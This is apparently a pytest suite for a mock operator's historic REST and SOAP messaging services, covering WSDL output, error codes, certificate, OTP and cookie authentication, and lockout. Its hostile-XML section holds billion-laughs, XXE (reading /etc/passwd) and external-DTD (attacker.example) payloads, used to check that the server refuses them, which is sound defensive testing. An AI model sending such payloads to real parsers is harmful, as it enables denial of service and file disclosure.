"""The mock operator's historic web services over real sockets: REST and SOAP twins, the
WSDL, the errors of DOMAIN.md §4, every authentication path, and hostile XML/JSON."""

from __future__ import annotations

import asyncio
import base64
import contextlib
from collections.abc import AsyncIterator, Iterable
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote
from xml.etree.ElementTree import Element, SubElement, tostring

import httpx
import pytest
from defusedxml.ElementTree import fromstring
from fastapi import FastAPI

from gateway.mss import historic_soap as soap
from gateway.mss.historic_http import build_historic_router
from gateway.mss.historic_ws import NAMESPACE, OPERATIONS
from gateway.runtime.asgi_server import AsgiServer, bind_tcp
from mock_operator.historic.auth import (
    DEFAULT_PERSONA_PASSWORD,
    SESSION_COOKIE,
    CpsAuthority,
    HistoricAuth,
)
from mock_operator.historic.operations import HistoricService
from mock_operator.historic.seed import seed_historic
from mock_operator.historic.store import HistoricStore
from mock_operator.modern.auth import MasterCredentials
from mock_operator.personas import default_personas
from mock_operator.server import sqlite_engine
from tests.conftest import client_tls
from tests.support.historic_contract import xml_field

MASTER = MasterCredentials("lps-gateway", "gateway-secret")
PERSONAS = default_personas()
DUPONT = PERSONAS.get("dr-dupont")
assert DUPONT is not None
assert DUPONT.bal is not None
BAL = DUPONT.bal
SOFTWARE = "HOMOL-2024-0042"
BASE = "/mss-msg-services/services"
ENV = soap.ENVELOPE_NS


@dataclass
class Historic:
    url: str
    auth: HistoricAuth
    authority: CpsAuthority
    service: HistoricService

    def last_call(self) -> tuple[str | None, str | None]:
        """(idnat, software) of the last call the operations saw."""
        record = self.service.calls[-1]
        return record.idnat, record.software

    def endpoint(self, service: str, face: str, operation: str | None = None) -> str:
        tail = f"/{operation}" if operation else ""
        return f"{self.url}{BASE}/{service}/{face}/v1{tail}"


@contextlib.asynccontextmanager
async def historic_server(
    directory: Path, *, max_body: int = 25 * 1024 * 1024, trusted: Iterable[str] | None = None
) -> AsyncIterator[Historic]:
    await asyncio.to_thread(directory.mkdir, parents=True, exist_ok=True)
    engine = sqlite_engine(directory / "historic.db")
    store = HistoricStore(engine)
    await store.create_schema()
    service = HistoricService(store)
    assert await seed_historic(service, PERSONAS)
    authority = CpsAuthority.load_or_create(directory)
    extra: dict[str, Any] = {} if trusted is None else {"trusted_proxies": trusted}
    auth = HistoricAuth(PERSONAS, master=MASTER, authority=authority, **extra)
    app = FastAPI()
    app.include_router(build_historic_router(service, auth, max_body=max_body))
    server = AsgiServer(app, bind_tcp("127.0.0.1", 0))
    await server.start()
    try:
        yield Historic(f"http://127.0.0.1:{server.port}", auth, authority, service)
    finally:
        await server.stop()
        await engine.dispose()


@pytest.fixture
async def hist(tmp_path: Path) -> AsyncIterator[Historic]:
    async with historic_server(tmp_path / "a") as server:
        yield server


@pytest.fixture
async def http() -> AsyncIterator[httpx.AsyncClient]:
    async with httpx.AsyncClient(timeout=10, verify=client_tls()) as client:
        yield client


def gateway_headers(software: str = SOFTWARE) -> dict[str, str]:
    basic = base64.b64encode(f"{MASTER.user}:{MASTER.password}".encode()).decode()
    return {"Authorization": f"Basic {basic}", "NUMHOMOLOGATION": software}


def envelope(operation: str, payload: dict[str, Any], element: str | None = None) -> bytes:
    root = Element("soap:Envelope", {"xmlns:soap": ENV})
    body = SubElement(root, "soap:Body")
    name = element or f"{operation}Input"
    wrapper = SubElement(body, f"m:{name}", {"xmlns:m": NAMESPACE})
    for key, value in payload.items():
        xml_field(wrapper, key, value)
    document: bytes = tostring(root, encoding="utf-8", xml_declaration=True)
    return document


def soap_output(response: httpx.Response, operation: str) -> dict[str, Any]:
    root = fromstring(response.content)
    output = root.find(f"{{{ENV}}}Body/{{{NAMESPACE}}}{operation}Output")
    assert output is not None, response.text
    return soap.element_fields(output)


def soap_error(response: httpx.Response) -> tuple[str, str, int]:
    """(faultcode, detail element name, code) of a SOAP fault."""
    root = fromstring(response.content)
    fault = root.find(f"{{{ENV}}}Body/{{{ENV}}}Fault")
    assert fault is not None, response.text
    detail = fault.find("detail")
    assert detail is not None
    assert len(detail) == 1
    error = detail[0]
    code = error.findtext("code")
    assert code is not None
    return fault.findtext("faultcode") or "", error.tag, int(code)


async def rest_call(
    http: httpx.AsyncClient,
    hist: Historic,
    service: str,
    operation: str,
    payload: dict[str, Any],
    headers: dict[str, str] | None = None,
) -> httpx.Response:
    return await http.post(
        hist.endpoint(service, "rest", operation),
        json={f"{operation}Input": payload},
        headers=gateway_headers() if headers is None else headers,
    )


async def soap_call(
    http: httpx.AsyncClient,
    hist: Historic,
    service: str,
    operation: str,
    payload: dict[str, Any],
    headers: dict[str, str] | None = None,
    *,
    per_operation: bool = True,
) -> httpx.Response:
    return await http.post(
        hist.endpoint(service, "soap", operation if per_operation else None),
        content=envelope(operation, payload),
        headers={
            "Content-Type": "text/xml; charset=utf-8",
            "SOAPAction": '""',
            **(gateway_headers() if headers is None else headers),
        },
    )


def rest_code(response: httpx.Response) -> int:
    code: int = response.json()["error"]["code"]
    return code


# -- WSDL ---------------------------------------------------------------------------------

WSDL_NS = "http://schemas.xmlsoap.org/wsdl/"


@pytest.mark.parametrize("service", sorted(OPERATIONS))
async def test_wsdl_describes_every_operation(
    hist: Historic, http: httpx.AsyncClient, service: str
) -> None:
    answer = await http.get(hist.endpoint(service, "soap") + "?wsdl")
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/xml")
    root = fromstring(answer.content)
    assert root.tag == f"{{{WSDL_NS}}}definitions"
    assert root.get("targetNamespace") == NAMESPACE
    port_type = root.find(f"{{{WSDL_NS}}}portType")
    assert port_type is not None
    listed = [op.get("name") for op in port_type.findall(f"{{{WSDL_NS}}}operation")]
    assert listed == list(OPERATIONS[service])
    schema = root.find(f"{{{WSDL_NS}}}types/{{http://www.w3.org/2001/XMLSchema}}schema")
    assert schema is not None
    elements = {e.get("name") for e in schema if e.tag.endswith("}element")}
    defined = {t.get("name") for t in schema if t.tag.endswith("}complexType")}
    used = {e.get("type", "") for e in schema.iter() if e.tag.endswith("}element")}
    assert {u.removeprefix("tns:") for u in used if u.startswith("tns:")} <= defined
    assert {u for u in used if not u.startswith("tns:")} <= {
        "xs:string",
        "xs:int",
        "xs:long",
        "xs:boolean",
        "xs:base64Binary",
        "",
    }
    for operation in OPERATIONS[service]:
        assert {f"{operation}Input", f"{operation}Output"} <= elements
    address = root.find(
        f"{{{WSDL_NS}}}service/{{{WSDL_NS}}}port/{{http://schemas.xmlsoap.org/wsdl/soap/}}address"
    )
    assert address is not None
    assert address.get("location") == hist.endpoint(service, "soap")
    per_operation = await http.get(hist.endpoint(service, "soap", OPERATIONS[service][0]) + "?wsdl")
    assert per_operation.content == answer.content


async def test_wsdl_of_unknown_service_is_404(hist: Historic, http: httpx.AsyncClient) -> None:
    assert (await http.get(hist.endpoint("Nope", "soap") + "?wsdl")).status_code == 404
    assert (await http.get(hist.endpoint("Item", "soap"))).status_code == 404


# -- unknown operations, input format ---------------------------------------------------------


async def test_unknown_operation(hist: Historic, http: httpx.AsyncClient) -> None:
    rest = await rest_call(http, hist, "Item", "explode", {"email": BAL})
    assert rest.status_code == 404
    rest = await rest_call(http, hist, "Nope", "listEmails", {"email": BAL})
    assert rest.status_code == 404
    fault = await soap_call(http, hist, "Item", "explode", {"email": BAL})
    assert fault.status_code == 500
    assert soap_error(fault)[0] == "soap:Client"
    # A body element of another service, posted to the service's endpoint.
    fault = await soap_call(http, hist, "Item", "listEmails", {"email": BAL}, per_operation=False)
    assert soap_error(fault) == ("soap:Client", f"{{{NAMESPACE}}}ErreurFonctionnelle", 36)


async def test_soap_body_must_match_the_operation_url(
    hist: Historic, http: httpx.AsyncClient
) -> None:
    answer = await http.post(
        hist.endpoint("Annuaire", "soap", "listEmails"),
        content=envelope("searchRecipient", {"email": BAL, "searchString": "x"}),
        headers=gateway_headers(),
    )
    assert soap_error(answer)[2] == 36


@pytest.mark.parametrize(
    "body",
    [
        b"{not json",
        b"[1, 2]",
        b'{"somethingElse": {}}',
        b'{"listEmailsInput": 3}',
        b"[" * 100_000 + b"]" * 100_000,
        b'{"listEmailsInput": ' + b'{"a": ' * 40 + b"1" + b"}" * 40 + b"}",
    ],
)
async def test_rest_bad_json_is_36(hist: Historic, http: httpx.AsyncClient, body: bytes) -> None:
    answer = await http.post(
        hist.endpoint("Annuaire", "rest", "listEmails"), content=body, headers=gateway_headers()
    )
    assert answer.status_code == 400
    assert answer.json() == {
        "error": {"type": "FONCTIONNELLE", "code": 36, "message": answer.json()["error"]["message"]}
    }


# -- hostile XML, oversized bodies -----------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"
  xmlns:m="http://services.msg.mss.asip.fr/">
 <soap:Body><m:listEmailsInput><email>&lol9;</email></m:listEmailsInput></soap:Body>
</soap:Envelope>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"
  xmlns:m="http://services.msg.mss.asip.fr/">
 <soap:Body><m:listEmailsInput><email>&xxe;</email></m:listEmailsInput></soap:Body>
</soap:Envelope>"""

PLAIN_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE soap:Envelope SYSTEM "http://attacker.example/evil.dtd">
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"
  xmlns:m="http://services.msg.mss.asip.fr/">
 <soap:Body><m:listEmailsInput/></soap:Body>
</soap:Envelope>"""

DEEP = (
    b'<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"'
    b' xmlns:m="http://services.msg.mss.asip.fr/"><soap:Body><m:listEmailsInput>'
    + b"<a>" * 5_000
    + b"</a>" * 5_000
    + b"</m:listEmailsInput></soap:Body></soap:Envelope>"
)


@pytest.mark.parametrize(
    "body",
    [
        BILLION_LAUGHS,
        EXTERNAL_ENTITY,
        PLAIN_DTD,
        DEEP,
        b"<not xml",
        b"<Envelope/>",
        b"\xff\xfe garbage",
    ],
    ids=["billion-laughs", "external-entity", "dtd", "deep", "malformed", "no-soap", "binary"],
)
async def test_hostile_xml_is_refused_with_36(
    hist: Historic, http: httpx.AsyncClient, body: bytes
) -> None:
    answer = await http.post(
        hist.endpoint("Annuaire", "soap", "listEmails"),
        content=body,
        headers={"Content-Type": "text/xml", **gateway_headers()},
    )
    assert answer.status_code == 500
    assert soap_error(answer) == ("soap:Client", f"{{{NAMESPACE}}}ErreurFonctionnelle", 36)
    assert b"root:" not in answer.content
    still = await soap_call(http, hist, "Annuaire", "listEmails", {"email": BAL})
    assert still.status_code == 200


async def test_oversized_bodies_are_refused_with_39(tmp_path: Path) -> None:
    async with (
        historic_server(tmp_path, max_body=64 * 1024) as hist,
        httpx.AsyncClient(timeout=10) as http,
    ):
        big = b"x" * (100 * 1024)
        for face in ("rest", "soap"):
            answer = await http.post(
                hist.endpoint("Annuaire", face, "listEmails"),
                content=big,
                headers=gateway_headers(),
            )
            if face == "rest":
                assert (answer.status_code, rest_code(answer)) == (400, 39)
            else:
                assert soap_error(answer)[2] == 39

        async def chunks() -> AsyncIterator[bytes]:
            for _ in range(7):
                yield b"y" * 16 * 1024

        answer = await http.post(  # chunked: no Content-Length to check, the cap applies
            hist.endpoint("Annuaire", "soap", "listEmails"),
            content=chunks(),
            headers=gateway_headers(),
        )
        assert soap_error(answer)[2] == 39
        still = await soap_call(http, hist, "Annuaire", "listEmails", {"email": BAL})
        assert still.status_code == 200


async def test_huge_declared_length_is_refused_before_reading(
    hist: Historic, http: httpx.AsyncClient
) -> None:
    """25 MiB default cap: a 1 GiB Content-Length is answered at once, nothing read."""
    host, port = "127.0.0.1", int(hist.url.rsplit(":", 1)[1])
    reader, writer = await asyncio.open_connection(host, port)
    basic = gateway_headers()["Authorization"]
    writer.write(
        (
            f"POST {BASE}/Annuaire/soap/v1/listEmails HTTP/1.1\r\nHost: {host}\r\n"
            f"Authorization: {basic}\r\nContent-Type: text/xml\r\n"
            f"NUMHOMOLOGATION: {SOFTWARE}\r\n"
            f"Content-Length: {1 << 30}\r\n\r\n<soap:Envelope"
        ).encode()
    )
    await writer.drain()
    head = await asyncio.wait_for(reader.read(65536), 5)
    writer.close()
    assert head.startswith(b"HTTP/1.1 500")
    assert b"<code>39</code>" in head
    still = await soap_call(http, hist, "Annuaire", "listEmails", {"email": BAL})
    assert still.status_code == 200


# -- authentication ------------------------------------------------------------------------


async def test_trusted_gateway_and_numhomologation(hist: Historic, http: httpx.AsyncClient) -> None:
    answer = await rest_call(http, hist, "Annuaire", "listEmails", {"email": BAL})
    assert answer.status_code == 200
    assert hist.last_call() == (None, SOFTWARE)
    answer = await soap_call(
        http, hist, "Annuaire", "listEmails", {"email": BAL}, gateway_headers("OTHER-9")
    )
    assert answer.status_code == 200
    assert hist.last_call() == (None, "OTHER-9")


@pytest.mark.parametrize(
    "authorization", ["Basic " + base64.b64encode(b"lps-gateway:wrong").decode(), "Basic !!!"]
)
async def test_wrong_basic_credentials_are_17(
    hist: Historic, http: httpx.AsyncClient, authorization: str
) -> None:
    headers = {"Authorization": authorization}
    rest = await rest_call(http, hist, "Annuaire", "listEmails", {"email": BAL}, headers)
    assert (rest.status_code, rest.headers["X-ErrorCode"], rest_code(rest)) == (403, "17", 17)
    fault = await soap_call(http, hist, "Annuaire", "listEmails", {"email": BAL}, headers)
    assert (fault.status_code, fault.headers["X-ErrorCode"]) == (403, "17")
    assert soap_error(fault)[2] == 17


async def test_no_credentials_is_8(hist: Historic, http: httpx.AsyncClient) -> None:
    for call in (rest_call, soap_call):
        answer = await call(http, hist, "Annuaire", "listEmails", {"email": BAL}, {})
        assert (answer.status_code, answer.headers["X-ErrorCode"]) == (403, "8")


def cert_headers(pem: bytes, verify: str = "SUCCESS") -> dict[str, str]:
    return {
        "ssl_client_verify": verify,
        "ssl_client_cert": quote(pem.decode(), safe=""),
        "NUMHOMOLOGATION": SOFTWARE,
    }


async def test_cps_certificate_from_trusted_proxy(hist: Historic, http: httpx.AsyncClient) -> None:
    assert DUPONT is not None
    pem, _key = hist.authority.issue(DUPONT)
    for call in (rest_call, soap_call):
        answer = await call(http, hist, "Annuaire", "listEmails", {"email": BAL}, cert_headers(pem))
        assert answer.status_code == 200, answer.text
        assert hist.last_call() == (DUPONT.idnat, SOFTWARE)


async def test_cps_certificate_refusals(
    hist: Historic, http: httpx.AsyncClient, tmp_path: Path
) -> None:
    assert DUPONT is not None
    other_ca = CpsAuthority.load_or_create(tmp_path / "other-ca")
    foreign, _ = other_ca.issue(DUPONT)
    pem, _ = hist.authority.issue(DUPONT)
    cases = [
        (cert_headers(foreign), "17"),  # not issued by the mock's CPS authority
        (cert_headers(pem, verify="FAILED:certificate has expired"), "17"),
        ({"ssl_client_verify": "SUCCESS", "ssl_client_cert": "garbage"}, "8"),
        ({"ssl_client_verify": "SUCCESS"}, "8"),
        ({"ssl_client_verify": "NONE"}, "8"),  # no card: falls through to no credentials
    ]
    for headers, code in cases:
        answer = await rest_call(http, hist, "Annuaire", "listEmails", {"email": BAL}, headers)
        assert (answer.status_code, answer.headers.get("X-ErrorCode")) == (403, code), headers


async def test_cps_headers_ignored_from_an_untrusted_address(
    tmp_path: Path, http: httpx.AsyncClient
) -> None:
    assert DUPONT is not None
    async with historic_server(tmp_path, trusted=["10.9.9.9/32"]) as hist:
        pem, _ = hist.authority.issue(DUPONT)
        answer = await rest_call(
            http, hist, "Annuaire", "listEmails", {"email": BAL}, cert_headers(pem)
        )
        assert (answer.status_code, answer.headers["X-ErrorCode"]) == (403, "8")
        assert not hist.service.calls


def otp_headers(**extra: str) -> dict[str, str]:
    assert DUPONT is not None
    return {"IDNAT": DUPONT.idnat, "NUMHOMOLOGATION": SOFTWARE, **extra}


@pytest.mark.parametrize("face", ["rest", "soap"])
async def test_otp_then_session_cookie(hist: Historic, face: str) -> None:
    assert DUPONT is not None
    call = rest_call if face == "rest" else soap_call
    async with httpx.AsyncClient(timeout=10) as http:
        first = otp_headers(PASSWORD=DEFAULT_PERSONA_PASSWORD, IDCANAL="SMS")
        answer = await call(http, hist, "Annuaire", "listEmails", {"email": BAL}, first)
        assert answer.status_code == 401
        assert answer.headers["X-OTP-Required"] == "SMS"
        assert not hist.service.calls
        code = hist.auth.pending_otps[DUPONT.idnat].code
        answer = await call(
            http, hist, "Annuaire", "listEmails", {"email": BAL}, {**first, "OTP": code}
        )
        assert answer.status_code == 200, answer.text
        assert hist.last_call() == (DUPONT.idnat, SOFTWARE)
        cookie = answer.headers["set-cookie"]
        assert cookie.startswith(f"{SESSION_COOKIE}=")
        assert "HttpOnly" in cookie
        assert "Max-Age=3600" in cookie
        assert "Path=/mss-msg-services" in cookie
        assert DUPONT.idnat not in cookie
        assert DUPONT.idnat not in hist.auth.pending_otps  # single use
        # Later requests: the cookie alone.
        answer = await call(
            http, hist, "Annuaire", "listEmails", {"email": BAL}, {"NUMHOMOLOGATION": "V2"}
        )
        assert answer.status_code == 200
        assert hist.last_call() == (DUPONT.idnat, "V2")
        # The OTP cannot be replayed.
        http.cookies.clear()
        answer = await call(
            http, hist, "Annuaire", "listEmails", {"email": BAL}, otp_headers(OTP=code)
        )
        assert answer.headers["X-ErrorCode"] == "8"


async def test_unknown_or_expired_cookie_is_26(hist: Historic, http: httpx.AsyncClient) -> None:
    assert DUPONT is not None
    headers = {"Cookie": f"{SESSION_COOKIE}=forged"}
    for call in (rest_call, soap_call):
        answer = await call(http, hist, "Annuaire", "listEmails", {"email": BAL}, headers)
        assert (answer.status_code, answer.headers["X-ErrorCode"]) == (403, "26")
    now = [1_000_000.0]
    hist.auth.clock = lambda: now[0]
    await rest_call(
        http,
        hist,
        "Annuaire",
        "listEmails",
        {},
        otp_headers(PASSWORD=DEFAULT_PERSONA_PASSWORD, IDCANAL="MAIL"),
    )
    code = hist.auth.pending_otps[DUPONT.idnat].code
    answer = await rest_call(
        http, hist, "Annuaire", "listEmails", {"email": BAL}, otp_headers(OTP=code)
    )
    token = answer.cookies[SESSION_COOKIE]
    http.cookies.clear()
    headers = {"Cookie": f"{SESSION_COOKIE}={token}", "NUMHOMOLOGATION": SOFTWARE}
    answer = await rest_call(http, hist, "Annuaire", "listEmails", {"email": BAL}, headers)
    assert answer.status_code == 200
    now[0] += 3_601
    answer = await rest_call(http, hist, "Annuaire", "listEmails", {"email": BAL}, headers)
    assert (answer.status_code, answer.headers["X-ErrorCode"]) == (403, "26")


async def test_password_errors_and_lockout(hist: Historic, http: httpx.AsyncClient) -> None:
    async def attempt(**headers: str) -> str:
        answer = await rest_call(
            http, hist, "Annuaire", "listEmails", {"email": BAL}, otp_headers(**headers)
        )
        assert answer.status_code in (401, 403)
        return answer.headers.get("X-ErrorCode", "otp")

    assert await attempt(PASSWORD="wrong", IDCANAL="SMS") == "17"
    assert await attempt(PASSWORD=DEFAULT_PERSONA_PASSWORD, IDCANAL="PIGEON") == "8"
    assert await attempt(PASSWORD=DEFAULT_PERSONA_PASSWORD) == "8"  # no channel
    assert await attempt() == "8"  # neither password nor OTP
    assert await attempt(PASSWORD=DEFAULT_PERSONA_PASSWORD, IDCANAL="SMS") == "otp"  # resets
    assert await attempt(PASSWORD="wrong", IDCANAL="SMS") == "17"
    assert await attempt(PASSWORD="wrong", IDCANAL="SMS") == "17"
    assert await attempt(PASSWORD="wrong", IDCANAL="SMS") == "22"
    assert await attempt(PASSWORD=DEFAULT_PERSONA_PASSWORD, IDCANAL="SMS") == "22"  # locked
    unknown = await rest_call(
        http, hist, "Annuaire", "listEmails", {}, {"IDNAT": "899700009999", "PASSWORD": "x"}
    )
    assert unknown.headers["X-ErrorCode"] == "17"
    hist.auth.clock = lambda: 10**12  # long after the lockout
    assert await attempt(PASSWORD=DEFAULT_PERSONA_PASSWORD, IDCANAL="SMS") == "otp"


async def test_wrong_otps_block_the_channel(hist: Historic, http: httpx.AsyncClient) -> None:
    async def attempt(**headers: str) -> str:
        answer = await soap_call(
            http, hist, "Annuaire", "listEmails", {"email": BAL}, otp_headers(**headers)
        )
        return answer.headers.get("X-ErrorCode", str(answer.status_code))

    assert await attempt(PASSWORD=DEFAULT_PERSONA_PASSWORD, IDCANAL="SMS") == "401"
    assert await attempt(OTP="not-it") == "17"
    assert await attempt(OTP="not-it") == "17"
    assert await attempt(OTP="not-it") == "44"
    assert await attempt(PASSWORD=DEFAULT_PERSONA_PASSWORD, IDCANAL="SMS") == "44"
    assert await attempt(PASSWORD=DEFAULT_PERSONA_PASSWORD, IDCANAL="MAIL") == "401"


def test_otp_is_logged_for_tests_only_in_the_mock_line(caplog: pytest.LogCaptureFixture) -> None:
    assert DUPONT is not None
    auth = HistoricAuth(PERSONAS, master=MASTER)
    headers = {"idnat": DUPONT.idnat, "password": DEFAULT_PERSONA_PASSWORD, "idcanal": "SMS"}
    with caplog.at_level("DEBUG"), pytest.raises(Exception, match="one-time password sent"):
        auth.decide(headers, {}, "127.0.0.1")
    code = auth.pending_otps[DUPONT.idnat].code
    lines = [r.getMessage() for r in caplog.records if code in r.getMessage()]
    assert len(lines) == 1
    assert lines[0].startswith("mock operator, test only")
    assert all(DEFAULT_PERSONA_PASSWORD not in r.getMessage() for r in caplog.records)
    assert all(DEFAULT_PERSONA_PASSWORD not in str(vars(r)) for r in caplog.records)


def test_certificate_idnat_mapping(tmp_path: Path) -> None:
    from cryptography import x509

    from mock_operator.historic.auth import idnat_of_certificate

    assert DUPONT is not None
    pem, key = CpsAuthority.load_or_create(tmp_path).issue(DUPONT)
    certificate = x509.load_pem_x509_certificate(pem)
    assert idnat_of_certificate(certificate) == DUPONT.idnat
    assert b"PRIVATE KEY" in key
    again = CpsAuthority.load_or_create(tmp_path)  # kept in the data directory
    assert again.issued(certificate)
    assert (tmp_path / "cps-ca-key.pem").stat().st_mode & 0o077 == 0


# -- REST and SOAP twins -------------------------------------------------------------------

Outcome = tuple[str, Any]
Call = Any  # (service, operation, payload) -> awaitable Outcome


def normalized(value: Any) -> Any:
    """What both faces can say: XML has no null, no empty list and no empty object."""
    if isinstance(value, dict):
        items = {k: normalized(v) for k, v in value.items()}
        return {k: v for k, v in items.items() if v not in (None, [], {})}
    if isinstance(value, list):
        return [normalized(v) for v in value]
    return value


def without_dates(value: Any) -> Any:
    """Messages composed during the run carry the second they were made in."""
    if isinstance(value, dict):
        return {k: without_dates(v) for k, v in value.items() if k != "date"}
    if isinstance(value, list | tuple):
        return type(value)(without_dates(v) for v in value)
    return value


def rest_face(http: httpx.AsyncClient, hist: Historic) -> Call:
    async def call(service: str, operation: str, payload: dict[str, Any]) -> Outcome:
        answer = await rest_call(http, hist, service, operation, payload)
        if answer.status_code == 200:
            body = answer.json()
            assert list(body) == [f"{operation}Output"]
            return "ok", normalized(body[f"{operation}Output"])
        assert "error" in answer.json(), (answer.status_code, answer.text)
        error = answer.json()["error"]
        expected = 400 if error["type"] == "FONCTIONNELLE" else 500
        assert answer.status_code == expected
        return "error", (error["type"], error["code"])

    return call


def soap_face(http: httpx.AsyncClient, hist: Historic) -> Call:
    async def call(service: str, operation: str, payload: dict[str, Any]) -> Outcome:
        answer = await soap_call(http, hist, service, operation, payload)
        assert answer.headers["content-type"] == "text/xml; charset=utf-8"
        if answer.status_code == 200:
            return "ok", normalized(soap_output(answer, operation))
        assert answer.status_code == 500
        faultcode, tag, code = soap_error(answer)
        kind = tag.rsplit("}", 1)[-1].removeprefix("Erreur").upper()
        assert faultcode == ("soap:Client" if kind == "FONCTIONNELLE" else "soap:Server")
        return "error", (kind, code)

    return call


async def scenario(call: Call) -> list[Outcome]:
    """Every operation, successes and refusals, driven by what the platform answers."""
    email = {"email": BAL}
    seen: list[Outcome] = []

    async def step(service: str, operation: str, payload: dict[str, Any]) -> Any:
        outcome = await call(service, operation, payload)
        seen.append(outcome)
        return outcome[1]

    await step("Annuaire", "listEmails", email)
    found = await step("Annuaire", "searchRecipient", {**email, "searchString": "petit"})
    assert found["recipients"]
    await step("Folder", "listFolders", email)
    patients = await step("Folder", "createFolder", {**email, "name": "Patients", "parentId": 2})
    patients_id = patients["folder"]["id"]
    await step("Folder", "renameFolder", {**email, "folderId": patients_id, "name": "Suivi"})
    archives = await step("Folder", "createFolder", {**email, "name": "Archives"})
    archives_id = archives["folder"]["id"]
    await step("Folder", "moveFolder", {**email, "folderId": patients_id, "parentId": archives_id})
    tree = await step("Folder", "listFolders", {**email, "folderId": archives_id})
    assert tree["folders"][0]["children"][0]["name"] == "Suivi"
    criteria = {"limit": 50, "offset": 0, "html": True, "sortBy": "DATEDESC"}
    inbox = await step(
        "Item",
        "searchMessages",
        {
            **email,
            "searchCriteria": {**criteria, "query": {"folderId": 2, "includeSubfolders": True}},
        },
    )
    messages = inbox["messages"]
    assert len(messages) >= 2
    await step(
        "Item",
        "searchMessages",
        {
            **email,
            "searchCriteria": {
                "limit": 1,
                "offset": 1,
                "query": {"seen": False, "subject": "lettre", "larger": 10, "isSent": False},
            },
        },
    )
    token = (await step("Item", "syncMessages", email))["token"]
    with_file = next(m for m in messages if m.get("attachments"))
    part = with_file["attachments"][0]["part"]
    download = {**email, "messageId": with_file["messageId"], "part": part}
    assert (await step("Attachment", "downloadAttachment", download))["file"]
    await step("Attachment", "downloadAttachment", {**download, "part": "9.9"})  # 46
    first, second = messages[0]["messageId"], messages[1]["messageId"]
    await step(
        "Item", "updateMessages", {**email, "messageIds": [first, second], "operation": "READ"}
    )
    await step("Item", "updateMessages", {**email, "messageIds": [first], "operation": "FLAGGED"})
    await step(
        "Item",
        "moveMessages",
        {**email, "messageIds": [second], "destinationFolderId": patients_id},
    )
    attachment = {"file": base64.b64encode(b"ordonnance\r\n").decode(), "fileName": "a.txt"}
    draft = await step(
        "Item",
        "draftMessage",
        {
            **email,
            "message": {
                "addresses": [{"address": "claire.martin@medecin.mssante.fr", "type": "TO"}],
                "subject": "Brouillon",
                "body": "à compléter\r\nligne 2",
                "attachments": [{**attachment, "contentType": "text/plain"}],
            },
        },
    )
    assert draft["message"]["folderId"] == 6
    sent = await step(
        "Item",
        "sendMessage",
        {
            **email,
            "message": {
                "addresses": [
                    {"address": "marie.petit@sage-femme.mssante.fr", "name": "M. PETIT"},
                    {"address": "helene.roux@medecin.mssante.fr", "type": "CC"},
                ],
                "subject": "Réponse",
                "body": "<p>Bonjour &amp; merci</p>",
                "isHTML": True,
                "priority": "HAUTE",
                "isAccuse": True,
                "replyType": "REPLY",
                "messageId": with_file["messageId"],
                "attachments": [{"part": part, "messageId": with_file["messageId"]}],
            },
        },
    )
    assert sent["message"]["folderId"] == 5, sent
    await step("Item", "syncMessages", {**email, "token": token})
    await step("Folder", "emptyFolder", {**email, "folderId": patients_id})
    await step("Folder", "trashFolder", {**email, "folderId": archives_id})
    await step("Item", "updateMessages", {**email, "messageIds": [first], "operation": "DELETE"})
    await step("Folder", "listFolders", email)
    # Refusals, with their codes.
    await step("Folder", "createFolder", {**email, "name": "Brouillons", "parentId": 1})  # 30
    await step("Folder", "listFolders", {**email, "folderId": 9999})  # 41
    await step("Folder", "listFolders", {})  # 23
    await step("Folder", "listFolders", {"email": "not an address"})  # 24
    await step("Folder", "renameFolder", {**email, "folderId": patients_id})  # 28
    await step("Attachment", "downloadAttachment", {**email, "messageId": "424242", "part": "2"})
    await step("Annuaire", "searchRecipient", {**email, "searchString": "x" * 31})
    await step(
        "Item",
        "sendMessage",
        {**email, "message": {"addresses": [BAL], "subject": "s" * 251}},
    )
    await step("Item", "sendMessage", {**email, "message": {"subject": "sans destinataire"}})
    await step("Item", "updateMessages", {**email, "messageIds": [first], "operation": "BURN"})
    await step("Item", "searchMessages", {**email, "searchCriteria": {"limit": "many"}})
    return seen


async def test_rest_and_soap_twins_give_the_same_results(tmp_path: Path) -> None:
    async with (
        historic_server(tmp_path / "rest") as for_rest,
        historic_server(tmp_path / "soap") as for_soap,
        httpx.AsyncClient(timeout=10) as http,
    ):
        rest = await scenario(rest_face(http, for_rest))
        soap_outcomes = await scenario(soap_face(http, for_soap))
    assert [o[0] for o in rest].count("error") >= 12
    assert len(rest) == len(soap_outcomes)
    for number, (by_rest, by_soap) in enumerate(zip(rest, soap_outcomes, strict=True)):
        assert without_dates(by_rest) == without_dates(by_soap), f"step {number}"
    codes = {o[1][1] for o in rest if o[0] == "error"}
    assert {23, 24, 28, 30, 36, 39, 41, 45, 46} <= codes


async def test_soap_accepts_the_service_address_and_plain_operation_element(
    hist: Historic, http: httpx.AsyncClient
) -> None:
    by_address = await soap_call(
        http, hist, "Annuaire", "listEmails", {"email": BAL}, per_operation=False
    )
